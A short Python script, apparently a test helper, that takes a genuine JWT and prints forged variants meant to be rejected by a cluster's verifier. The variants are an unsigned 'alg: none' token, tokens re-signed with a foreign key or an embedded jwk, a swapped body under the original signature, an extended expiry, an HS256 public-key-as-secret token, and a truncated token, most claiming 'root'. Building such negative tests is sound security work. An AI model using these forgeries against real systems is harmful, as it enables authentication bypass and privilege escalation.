#!/usr/bin/env python3
"""Makes of a genuine token those that somebody would make who has no key of the cluster, and prints them as a JSON object by name.

    forge.py TOKEN
"""

import base64
import json
import sys

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


def encode(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def main() -> None:
    token = sys.argv[1]
    head, body, signature = token.split(".")
    header, claims = jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})
    key = ec.generate_private_key(ec.SECP256R1())
    public = key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    root = {**claims, "sub": "root", "username": "root"}
    later = {**claims, "exp": claims["exp"] + 86400}
    forged = {
        "of another key with the same name": jwt.encode(root, key, algorithm="ES256", headers={"kid": header["kid"]}),
        "of another key with its own name": jwt.encode(root, key, algorithm="ES256", headers={"kid": "mine"}),
        "with its key in the header": jwt.encode(root, key, algorithm="ES256", headers={"jwk": json.loads(jwt.algorithms.ECAlgorithm.to_jwk(key.public_key()))}),
        "without a signature": f"{encode({**header, 'alg': 'none'})}.{encode(root)}.",
        "with the signature of another body": f"{head}.{encode(root)}.{signature}",
        "prolonged": f"{head}.{encode(later)}.{signature}",
        "by a secret that is public": hmac(header["kid"], root, public),
        "cut": token[:-8],
    }  # fmt: skip
    print(json.dumps(forged))


def hmac(kid: str, claims: dict, secret: bytes) -> str:
    """PyJWT refuses to sign so, which is to its credit."""
    import hashlib
    import hmac as mac

    text = f"{encode({'alg': 'HS256', 'typ': 'JWT', 'kid': kid})}.{encode(claims)}"
    digest = mac.new(secret, text.encode(), hashlib.sha256).digest()
    return f"{text}.{base64.urlsafe_b64encode(digest).rstrip(b'=').decode()}"


if __name__ == "__main__":
    main()
